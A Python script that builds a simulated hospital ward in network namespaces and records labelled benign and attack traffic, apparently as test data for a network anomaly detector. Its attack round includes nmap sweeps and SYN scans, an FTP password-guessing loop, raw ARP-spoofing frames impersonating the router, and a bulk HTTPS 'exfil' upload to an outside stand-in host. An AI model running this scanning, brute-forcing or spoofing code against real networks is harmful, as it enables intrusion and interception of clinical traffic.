#!/usr/bin/env python3
"""Labelled ward scenarios: real software in network namespaces on one bridge, captured with tcpdump.

    sudo .venv/bin/python scripts/ward_scenarios.py --out tests/captures

Writes scenario-benign.pcap (learning), scenario-benign-test.pcap (held-out benign traffic, for false
findings per hour), scenario-attack.pcap, scenario-labels.json and scenario-policy.toml. A scenario is a
series of rounds; each round is captured on its own and the rounds are then laid one hour apart in packet
time (every packet of a round shifted by the same amount, so flows stay intact), so a few minutes of
real traffic make several hours of ward time. Frames are cut to 600 bytes (the IP length fields keep the
real sizes, and flow byte counts come from those).

The ward (10.1.0.0/24, one namespace per host, a veth each into the bridge br0 of the "switch"):
router 10.1.0.1 (Cisco MAC, forwards to 198.51.100.0/24), dnsmasq 10.1.0.2 (DHCP with reservations and
hostnames, DNS for ward.local), PACS 10.1.0.10 (pynetdicom storage + C-FIND SCP, AE PACS_MAIN), CT
10.1.0.11 (pynetdicom SCU: C-ECHO, C-STORE), reading workstation 10.1.0.12 (C-FIND), HL7 engine 10.1.0.20
(MLLP with ACKs), patient monitor 10.1.0.30 (Philips MAC, HL7 ORU), infusion pump 10.1.0.31 (Baxter MAC,
HL7 ORU), clinical workstation 10.1.0.40 (Dell MAC, HL7 ADT), backup server 10.1.0.50 (a TCP 873 sink,
and an FTP responder nobody uses in benign rounds). Outside: 198.51.100.7 (an HTTPS upload sink).

Benign rounds: DHCP and DNS, CT stores images, the workstation queries the PACS, monitor/pump/desk send
HL7, the PACS backs up incrementally (1-2 MB); one learning round has the nightly full backup (40 MB).
The attack capture's last round adds, labelled: a new device (10.1.0.66) that ARP-sweeps and SYN-scans
with nmap, logs in to the backup's FTP with wrong then right passwords (cleartext), and spoofs ARP for the
router; the pump opening a DICOM C-FIND association to the PACS; the reading workstation uploading
30 MB over HTTPS to 198.51.100.7; and the benign-but-unusual full PACS backup, which must raise nothing.
The script re-runs itself inside a namespace (`--role NAME`) to play one host.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from clinical_captures import CT_STORAGE, STUDY_FIND, VERIFICATION, _ct_image, hl7_ack, hl7_message

SWITCH, INET, PREFIX = "wsc-sw", "wsc-inet", "wsc-"
HOSTS = {  # name: (address, MAC, DHCP hostname or "")
    "router": ("10.1.0.1", "e8:0a:b9:00:00:01", ""), "dns": ("10.1.0.2", "02:10:00:00:00:02", ""),
    "pacs": ("10.1.0.10", "02:10:00:00:00:10", ""), "ct": ("10.1.0.11", "02:10:00:00:00:11", ""),
    "ws": ("10.1.0.12", "d0:43:1e:00:00:12", "reading-ws3"),
    "engine": ("10.1.0.20", "02:10:00:00:00:20", ""),
    "monitor": ("10.1.0.30", "00:09:5c:00:00:30", "monitor-bed12"),
    "pump": ("10.1.0.31", "58:46:e1:00:00:31", "pump-31"),
    "cws": ("10.1.0.40", "d0:43:1e:00:00:40", "nurse-desk-1"),
    "backup": ("10.1.0.50", "02:10:00:00:00:50", ""),
    "attacker": ("10.1.0.66", "02:66:00:00:00:66", "laptop"),
}
EXTERNAL, EXT_GW = "198.51.100.7", "198.51.100.1"
DICOM_PORT, MLLP_PORT, BACKUP_PORT, FTP_PORT = 11112, 2575, 873, 21
SNAPLEN, HOUR = 600, 3600.0
FTP_USER, FTP_PASSWORD = "service", "ward-scenario-pw"


# --- the network -------------------------------------------------------------------------------------

def _sh(*command: str, check: bool = True) -> None:
    subprocess.run(command, check=check, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _ns(host: str) -> str:
    return PREFIX + host


def _in(host: str, *command: str) -> list[str]:
    return ["ip", "netns", "exec", _ns(host), *command]


def _namespaces() -> list[str]:
    return [SWITCH, INET, *(_ns(h) for h in HOSTS)]


def _remove_namespaces() -> None:
    for name in _namespaces():
        if Path("/run/netns", name).exists():
            _sh("ip", "netns", "del", name, check=False)


def _build_network() -> None:
    for name in _namespaces():
        _sh("ip", "netns", "add", name)
        for key in ("all", "default"):
            _sh("ip", "netns", "exec", name, "sysctl", "-qw", f"net.ipv6.conf.{key}.disable_ipv6=1")
        _sh("ip", "-n", name, "link", "set", "lo", "up")
    _sh("ip", "-n", SWITCH, "link", "add", "br0", "type", "bridge", "mcast_snooping", "0")
    _sh("ip", "-n", SWITCH, "link", "set", "br0", "up")
    for host, (address, mac, _) in HOSTS.items():
        _sh("ip", "-n", SWITCH, "link", "add", f"sw-{host}", "type", "veth", "peer", "name", "eth0",
            "netns", _ns(host))
        _sh("ip", "-n", SWITCH, "link", "set", f"sw-{host}", "master", "br0", "up")
        _sh("ip", "-n", _ns(host), "link", "set", "eth0", "address", mac, "up")
        _sh("ip", "-n", _ns(host), "addr", "add", f"{address}/24", "dev", "eth0")
        if host != "router":
            _sh("ip", "-n", _ns(host), "route", "add", "default", "via", HOSTS["router"][0])
    _sh("ip", "-n", _ns("router"), "link", "add", "eth1", "type", "veth", "peer", "name", "eth0",
        "netns", INET)
    _sh("ip", "-n", _ns("router"), "addr", "add", f"{EXT_GW}/24", "dev", "eth1")
    _sh("ip", "-n", _ns("router"), "link", "set", "eth1", "up")
    _sh("ip", "netns", "exec", _ns("router"), "sysctl", "-qw", "net.ipv4.ip_forward=1")
    _sh("ip", "-n", INET, "addr", "add", f"{EXTERNAL}/24", "dev", "eth0")
    _sh("ip", "-n", INET, "link", "set", "eth0", "up")
    _sh("ip", "-n", INET, "route", "add", "default", "via", EXT_GW)


@contextlib.contextmanager
def _capture(path: Path) -> Iterator[None]:
    command = ["ip", "netns", "exec", SWITCH, "tcpdump", "-i", "br0", "-s", str(SNAPLEN), "-U", "-Z", "root",
               "-n", "-w", str(path), "not ip6"]
    dump = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        assert dump.stderr is not None
        if "listening" not in dump.stderr.readline():
            raise RuntimeError("tcpdump did not start")
        time.sleep(0.3)
        yield
        time.sleep(1.0)
    finally:
        dump.send_signal(signal.SIGINT)
        dump.wait(timeout=10)


@contextlib.contextmanager
def _servers(work: Path) -> Iterator[None]:
    """dnsmasq, the PACS, the engine, the backup sink + FTP responder and the HTTPS sink, for the block."""
    leases = work / "leases"
    dns = ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--interface=eth0", "--bind-interfaces",
           "--no-resolv", "--no-hosts", "--user=root", f"--dhcp-leasefile={leases}", "--dhcp-authoritative",
           "--dhcp-range=10.1.0.100,10.1.0.199,1h", "--domain=ward.local", "--log-facility=/dev/null"]
    dns += [f"--dhcp-host={mac},{ip},{name}" for ip, mac, name in HOSTS.values() if name]
    dns += [f"--host-record={host}.ward.local,{ip}" for host, (ip, _, _) in HOSTS.items()]
    processes = [subprocess.Popen(_in("dns", *dns), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL, text=True)]
    try:
        for host, role in (("pacs", "pacs"), ("engine", "engine"), ("backup", "backup")):
            processes.append(_started(_in(host, sys.executable, __file__, "--role", role)))
        inet = ["ip", "netns", "exec", INET, sys.executable, __file__, "--role", "https", "--work", str(work)]
        processes.append(_started(inet))
        time.sleep(0.5)
        yield
    finally:
        for process in processes:
            if process.stdin is not None:
                process.stdin.close()
            with contextlib.suppress(subprocess.TimeoutExpired):
                process.wait(timeout=5)
            if process.poll() is None:
                process.kill()
                process.wait()


def _started(command: list[str]) -> subprocess.Popen[str]:
    process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    if process.stdout.readline().strip() != "ready":
        process.kill()
        raise RuntimeError(f"{command[-1]} did not start")
    return process


def _run(host: str, *args: str, timeout: float = 180) -> None:
    subprocess.run(_in(host, sys.executable, __file__, "--role", *args), check=True, timeout=timeout)


# --- rounds and their labels -------------------------------------------------------------------------

def _benign_round(full_backup: bool) -> None:
    for host in ("pump", "monitor", "ws", "cws"):
        _run(host, "dhcp", host)
    for host in ("ws", "cws", "ct"):
        _run(host, "dns")
    _run("ct", "modality")
    _run("ws", "workstation")
    _run("monitor", "hl7", "ORU^R01^ORU_R01", "3")
    _run("pump", "hl7", "ORU^R01^ORU_R01", "2")
    _run("cws", "hl7", "ADT^A01^ADT_A01", "1")
    _run("pacs", "upload", HOSTS["backup"][0], str(BACKUP_PORT), str(40_000_000 if full_backup else
                                                                     random.randint(1_000_000, 2_000_000)))


@contextlib.contextmanager
def _event(events: list[dict[str, object]], kinds: list[str], src: str, dst: str | None,
           benign: bool = False, note: str = "") -> Iterator[None]:
    """Time one labelled event (real time; shifted with its round later)."""
    start = time.time()
    yield
    events.append({"kinds": kinds, "src": HOSTS[src][0], "src_mac": HOSTS[src][1],
                   "dst": HOSTS[dst][0] if dst in HOSTS else dst, "start": start, "end": time.time(),
                   "benign": benign, "note": note})


def _attack_round(events: list[dict[str, object]]) -> None:
    """A benign round, then the attacks and the benign-but-unusual full backup, each labelled."""
    _benign_round(False)
    with _event(events, ["new_device"], "attacker", None, note="unknown laptop joins by DHCP"):
        _run("attacker", "dhcp", "attacker")
    with _event(events, ["host_sweep"], "attacker", None, note="nmap -sn 10.1.0.0/24 (ARP sweep)"):
        _sh(*_in("attacker", "nmap", "-sn", "-n", "-T4", "10.1.0.0/24"))
    with _event(events, ["port_scan"], "attacker", "pacs", note="nmap -sS -p 1-1024 PACS"):
        _sh(*_in("attacker", "nmap", "-sS", "-n", "-T4", "-p", "1-1024", HOSTS["pacs"][0]))
    with _event(events, ["brute_force", "cleartext_credentials"], "attacker", "backup",
                note="6 FTP logins, 5 wrong passwords then the right one"):
        _run("attacker", "ftp", HOSTS["backup"][0])
    with _event(events, ["arp_spoofing"], "attacker", "router", note="ARP replies claiming 10.1.0.1"):
        _run("attacker", "arpspoof")
    with _event(events, ["clinical_protocol_misuse"], "pump", "pacs", note="pump opens a DICOM C-FIND"):
        _run("pump", "pumpfind")
    with _event(events, ["volume_anomaly", "external_communication"], "ws", EXTERNAL,
                note="30 MB HTTPS upload to 198.51.100.7"):
        _run("ws", "exfil")
    with _event(events, [], "pacs", "backup", benign=True, note="full PACS backup, policy bulk rule"):
        _run("pacs", "upload", HOSTS["backup"][0], str(BACKUP_PORT), "40000000")


# --- pcap retiming -----------------------------------------------------------------------------------

def _read_pcap(path: Path) -> tuple[bytes, list[tuple[float, int, bytes]]]:
    data = path.read_bytes()
    endian = "<" if data[:4] == b"\xd4\xc3\xb2\xa1" else ">"
    header, packets, at = data[:24], [], 24
    while at + 16 <= len(data):
        sec, usec, incl, orig = struct.unpack_from(endian + "IIII", data, at)
        packets.append((sec + usec / 1e6, orig, data[at + 16:at + 16 + incl]))
        at += 16 + incl
    return (b"\xd4\xc3\xb2\xa1" + header[4:] if endian == ">" else header), packets


def _merge(rounds: list[Path], out: Path, base: float) -> list[float]:
    """Lay round i at base + i hours; returns each round's shift (added to its real timestamps)."""
    shifts: list[float] = []
    with out.open("wb") as stream:
        for i, path in enumerate(rounds):
            header, packets = _read_pcap(path)
            if i == 0:
                linktype = struct.unpack_from("<I", header, 20)[0]
                stream.write(header[:16] + struct.pack("<II", SNAPLEN, linktype))
            shift = base + i * HOUR - (packets[0][0] if packets else 0.0)
            shifts.append(shift)
            for ts, orig, frame in packets:
                t = round((ts + shift) * 1e6)
                frame = frame[:SNAPLEN]
                stream.write(struct.pack("<IIII", t // 1_000_000, t % 1_000_000, len(frame), orig) + frame)
    return shifts


def generate(out: Path, learn_rounds: int, test_rounds: int) -> None:
    if os.geteuid() != 0 or not all(shutil.which(t) for t in ("tcpdump", "nmap", "dnsmasq")):
        raise SystemExit("needs root (network namespaces), tcpdump, nmap and dnsmasq")
    out.mkdir(parents=True, exist_ok=True)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    random.seed(7)
    _remove_namespaces()
    base = 1_780_000_000.0  # 2026-05-28 20:26:40 UTC: the learning starts here
    try:
        _build_network()
        with tempfile.TemporaryDirectory() as scratch:
            work = Path(scratch)
            _sh("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
                "/CN=upload.example", "-keyout", str(work / "key.pem"), "-out", str(work / "cert.pem"))
            with _servers(work):
                plans: dict[str, list[bool | None]] = {
                    "benign": [i == 2 for i in range(learn_rounds)],
                         "benign-test": [False] * test_rounds, "attack": [False, None]}
                events: list[dict[str, object]] = []
                starts = {"benign": base, "benign-test": base + (learn_rounds + 1) * HOUR,
                          "attack": base + (learn_rounds + test_rounds + 2) * HOUR}
                for name, plan in plans.items():
                    rounds = []
                    for i, full in enumerate(plan):
                        rounds.append(work / f"{name}-{i}.pcap")
                        with _capture(rounds[-1]):
                            if full is None:
                                _attack_round(events)
                            else:
                                _benign_round(full)
                    shifts = _merge(rounds, out / f"scenario-{name}.pcap", starts[name])
                    if name == "attack":
                        for item in events:
                            item["start"] = round(float(item["start"]) + shifts[-1] - 1, 3)  # type: ignore[arg-type]
                            item["end"] = round(float(item["end"]) + shifts[-1] + 1, 3)  # type: ignore[arg-type]
        labels = {"captures": {"learn": "scenario-benign.pcap", "benign": "scenario-benign-test.pcap",
                               "attack": "scenario-attack.pcap"},
                  "hosts": {h: {"ip": ip, "mac": mac} for h, (ip, mac, _) in HOSTS.items()} |
                  {"external": {"ip": EXTERNAL, "mac": None}},
                  "events": events}
        (out / "scenario-labels.json").write_text(json.dumps(labels, indent=1) + "\n")
        (out / "scenario-policy.toml").write_text(POLICY)
    finally:
        _remove_namespaces()


POLICY = """# The scenario ward's segmentation policy (scripts/ward_scenarios.py writes it).
[policy]
intra_zone = true

[zones.infrastructure]
cidrs = ["10.1.0.1/32", "10.1.0.2/32"]

[zones.imaging]
cidrs = ["10.1.0.10/31", "10.1.0.12/32"]

[zones.clinical]
cidrs = ["10.1.0.20/32", "10.1.0.30/31", "10.1.0.40/32"]

[zones.backup]
cidrs = ["10.1.0.50/32"]

[[allow]]
from = "*"
to = "infrastructure"
proto = "udp"
ports = [53, 67]

[[allow]]
from = "clinical"
to = "clinical"
proto = "tcp"
ports = [2575]
why = "HL7 results and ADT to the interface engine"

[[allow]]
from = "imaging"
to = "backup"
proto = "tcp"
ports = [873]
bulk = true
why = "scheduled PACS backup: high volume is expected"
"""


# --- the hosts (run inside their namespace) ------------------------------------------------------------

def _role_pacs() -> None:
    from pynetdicom import AE, AllStoragePresentationContexts, evt

    def on_find(event: evt.Event) -> Iterator[tuple[int, object]]:
        yield 0x0000, None

    ae = AE(ae_title="PACS_MAIN")
    ae.supported_contexts = AllStoragePresentationContexts
    ae.add_supported_context(VERIFICATION)
    ae.add_supported_context(STUDY_FIND)
    server = ae.start_server((HOSTS["pacs"][0], DICOM_PORT), block=False,
                             evt_handlers=[(evt.EVT_C_STORE, lambda e: 0x0000), (evt.EVT_C_FIND, on_find)])
    print("ready", flush=True)
    sys.stdin.read()
    if server is not None:
        server.shutdown()


def _role_modality() -> None:
    from pynetdicom import AE

    ae = AE(ae_title="CT_SCANNER_01")
    ae.add_requested_context(VERIFICATION)
    ae.add_requested_context(CT_STORAGE)
    assoc = ae.associate(HOSTS["pacs"][0], DICOM_PORT, ae_title="PACS_MAIN")
    assert assoc.is_established
    assoc.send_c_echo()
    for number in range(1, 4):
        image = _ct_image(number)
        image.Rows = image.Columns = 64
        image.PixelData = bytes(random.getrandbits(8) for _ in range(64 * 64 * 2))
        assoc.send_c_store(image)
    assoc.release()


def _find(calling: str) -> None:
    from pydicom.dataset import Dataset
    from pynetdicom import AE

    ae = AE(ae_title=calling)
    ae.add_requested_context(STUDY_FIND)
    assoc = ae.associate(HOSTS["pacs"][0], DICOM_PORT, ae_title="PACS_MAIN")
    assert assoc.is_established
    query = Dataset()
    query.QueryRetrieveLevel, query.PatientName, query.StudyInstanceUID = "STUDY", "*", ""
    list(assoc.send_c_find(query, STUDY_FIND))
    assoc.release()


def _role_engine() -> None:
    import select

    with socket.create_server((HOSTS["engine"][0], MLLP_PORT)) as listener:
        print("ready", flush=True)
        while True:
            readable, _, _ = select.select([listener, sys.stdin], [], [])
            if sys.stdin in readable and not sys.stdin.readline():
                return
            if listener in readable:
                connection, _ = listener.accept()
                with connection:
                    connection.settimeout(5)
                    buffer = b""
                    with contextlib.suppress(OSError):
                        while chunk := connection.recv(4096):
                            buffer += chunk
                            while (end := buffer.find(b"\x1c\r")) >= 0:
                                connection.sendall(hl7_ack(buffer[:end + 2]))
                                buffer = buffer[end + 2:]


def _role_hl7(kind: str, count: str) -> None:
    with socket.create_connection((HOSTS["engine"][0], MLLP_PORT), timeout=5) as connection:
        for i in range(int(count)):
            connection.sendall(hl7_message(kind, f"C{random.randint(0, 10**8):08d}{i}"))
            reply = b""
            while b"\x1c\r" not in reply:
                reply += connection.recv(4096) or b"\x1c\r"


def _serve(listener: socket.socket, handle: object) -> None:
    import select
    import threading

    print("ready", flush=True)
    while True:
        readable, _, _ = select.select([listener, sys.stdin], [], [])
        if sys.stdin in readable and not sys.stdin.readline():
            return
        if listener in readable:
            connection, _ = listener.accept()
            threading.Thread(target=handle, args=(connection,), daemon=True).start()  # type: ignore[arg-type]


def _sink(connection: socket.socket) -> None:
    with connection, contextlib.suppress(OSError):
        connection.sendall(b"@RSYNCD: 31.0\n")
        while connection.recv(1 << 16):
            pass


def _ftp(connection: socket.socket) -> None:
    """Just enough FTP for a login: 220, USER -> 331, PASS -> 230 or 530, QUIT -> 221."""
    with connection, contextlib.suppress(OSError):
        stream = connection.makefile("rwb", buffering=0)
        stream.write(b"220 backup FTP ready\r\n")
        user = ""
        for line in stream:
            verb, _, arg = line.decode("ascii", "replace").strip().partition(" ")
            if verb.upper() == "USER":
                user = arg
                stream.write(b"331 Password required\r\n")
            elif verb.upper() == "PASS":
                ok = user == FTP_USER and arg == FTP_PASSWORD
                stream.write(b"230 Logged in\r\n" if ok else b"530 Login incorrect\r\n")
            elif verb.upper() == "QUIT":
                stream.write(b"221 Bye\r\n")
                return
            else:
                stream.write(b"502 Not implemented\r\n")


def _role_backup() -> None:
    import threading

    ftp = socket.create_server((HOSTS["backup"][0], FTP_PORT))
    threading.Thread(target=lambda: _serve_quiet(ftp, _ftp), daemon=True).start()
    _serve(socket.create_server((HOSTS["backup"][0], BACKUP_PORT)), _sink)


def _serve_quiet(listener: socket.socket, handle: object) -> None:
    import threading

    while True:
        connection, _ = listener.accept()
        threading.Thread(target=handle, args=(connection,), daemon=True).start()  # type: ignore[arg-type]


def _role_https(work: str) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{work}/cert.pem", f"{work}/key.pem")

    def handle(connection: socket.socket) -> None:
        with contextlib.suppress(OSError, ssl.SSLError), \
                context.wrap_socket(connection, server_side=True) as tls:
            while tls.recv(1 << 16):
                pass

    _serve(socket.create_server((EXTERNAL, 443)), handle)


def _upload(host: str, port: int, size: int, tls: bool = False) -> None:
    with socket.create_connection((host, port), timeout=30) as raw:
        connection: socket.socket = raw
        if tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            connection = context.wrap_socket(raw, server_hostname="upload.example")
        block = random.randbytes(1 << 16)
        sent = 0
        while sent < size:
            connection.sendall(block[: min(len(block), size - sent)])
            sent += len(block)
        connection.shutdown(socket.SHUT_WR)


def _dhcp(host: str) -> None:
    """DISCOVER, OFFER, REQUEST, ACK with hostname and vendor class, from the reserved address."""
    ip, mac, name = HOSTS[host]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    sock.bind(("0.0.0.0", 68))
    sock.settimeout(3)
    xid = random.getrandbits(32)

    def packet(kind: int, extra: bytes) -> bytes:
        head = struct.pack("!BBBBIHH4s4s4s4s16s192sI", 1, 1, 6, 0, xid, 0, 0x8000, bytes(4), bytes(4),
                           bytes(4), bytes(4), bytes.fromhex(mac.replace(":", "")), bytes(192), 0x63825363)
        options = bytes([53, 1, kind, 12, len(name)]) + name.encode() + bytes([60, 8]) + b"ward-sim"
        return head + options + extra + bytes([55, 4, 1, 3, 6, 15, 255])

    sock.sendto(packet(1, b""), ("255.255.255.255", 67))
    offer, _ = sock.recvfrom(2048)
    server = socket.inet_aton(HOSTS["dns"][0])
    sock.sendto(packet(3, bytes([50, 4]) + socket.inet_aton(ip) + bytes([54, 4]) + server),
                ("255.255.255.255", 67))
    with contextlib.suppress(TimeoutError):
        sock.recvfrom(2048)
    assert offer[236:240] == b"\x63\x82\x53\x63"


def _dns(names: list[str]) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    for name in names:
        query = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
        query += b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
        query += b"\x00" + struct.pack("!HH", 1, 1)
        sock.sendto(query, (HOSTS["dns"][0], 53))
        with contextlib.suppress(TimeoutError):
            sock.recvfrom(2048)


def _ftp_login(host: str) -> None:
    for password in ["admin", "123456", "backup", "password", "service", FTP_PASSWORD]:
        with socket.create_connection((host, FTP_PORT), timeout=5) as connection:
            stream = connection.makefile("rwb", buffering=0)
            stream.readline()
            stream.write(f"USER {FTP_USER}\r\n".encode())
            stream.readline()
            stream.write(f"PASS {password}\r\n".encode())
            stream.readline()
            stream.write(b"QUIT\r\n")
            stream.readline()


def _arp_spoof() -> None:
    """Gratuitous ARP replies claiming the router's address for the attacker's MAC (crafted frames)."""
    mac = bytes.fromhex(HOSTS["attacker"][1].replace(":", ""))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    router = socket.inet_aton(HOSTS["router"][0])
    for target in ("pump", "monitor", "ws", "pacs", "ct"):
        ip, their_mac, _ = HOSTS[target]
        dst = bytes.fromhex(their_mac.replace(":", ""))
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, router, dst, socket.inet_aton(ip))
        for _ in range(3):
            sock.send(dst + mac + b"\x08\x06" + arp)
            time.sleep(0.05)
    broadcast = b"\xff" * 6
    for _ in range(5):
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, router, broadcast, router)
        sock.send(broadcast + mac + b"\x08\x06" + arp)
        time.sleep(0.1)


def _role(name: str, args: list[str]) -> None:
    roles = {
        "pacs": _role_pacs, "engine": _role_engine, "backup": _role_backup,
        "https": lambda: _role_https(args[0]), "modality": _role_modality,
        "workstation": lambda: _find("READ_WS_3"), "pumpfind": lambda: _find("PUMP31"),
        "hl7": lambda: _role_hl7(args[0], args[1]), "dhcp": lambda: _dhcp(args[0]),
        "dns": lambda: _dns(["pacs.ward.local", "engine.ward.local", "backup.ward.local"]),
        "upload": lambda: _upload(args[0], int(args[1]), int(args[2])),
        "exfil": lambda: _upload(EXTERNAL, 443, 30_000_000, tls=True),
        "ftp": lambda: _ftp_login(args[0]), "arpspoof": _arp_spoof,
    }
    roles[name]()


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=Path, default=Path("tests/captures"))
    parser.add_argument("--learn-rounds", type=int, default=6)
    parser.add_argument("--test-rounds", type=int, default=3)
    parser.add_argument("--role", nargs="+", help=argparse.SUPPRESS)
    parser.add_argument("--work", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.role:
        random.seed()
        _role(args.role[0], args.role[1:] + ([args.work] if args.work else []))
        return
    generate(args.out, args.learn_rounds, args.test_rounds)
    for name in ("benign", "benign-test", "attack"):
        path = args.out / f"scenario-{name}.pcap"
        print(f"{path}: {path.stat().st_size} bytes")


if __name__ == "__main__":
    main()
